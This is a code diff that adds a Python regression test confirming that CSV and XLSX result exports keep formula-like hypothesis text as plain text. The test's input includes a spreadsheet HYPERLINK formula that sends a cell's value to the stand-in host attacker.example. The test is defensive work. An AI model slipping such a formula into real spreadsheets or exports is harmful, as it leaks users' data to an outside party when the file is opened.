@@ -716,3 +716,25 @@ def first_sha(content: bytes) -> str:
     import hashlib
 
     return hashlib.sha256(content).hexdigest()
+
+
+def test_exported_cells_that_start_like_a_formula_stay_text(hostile: Hostile) -> None:
+    """A hypothesis (and so its row) starting with "=HYPERLINK(" was a live formula in the XLSX
+    export and raw in the CSV one (a spreadsheet runs it when the file is opened)."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    with hostile.client("acme") as acme:
+        created = acme.post(
+            "/v1/checks", json={"contracts": ["acme-secret"], "hypotheses": [formula, "+1+1 is two"]}
+        )
+        assert created.status_code == 202, created.text
+        job = wait_job(acme, created.json()["id"])
+        csv_text = acme.get(f"/v1/jobs/{job['id']}/result", params={"format": "csv"}).text
+        xlsx = acme.get(f"/v1/jobs/{job['id']}/result", params={"format": "xlsx"}).content
+    assert f"'{formula}".replace('"', '""') in csv_text and "'+1+1 is two" in csv_text
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    written = [cell for cell in cells if formula in cell.value]
+    assert written and all(cell.data_type == "s" for cell in written)
+    assert not any(cell.data_type == "f" for cell in cells)
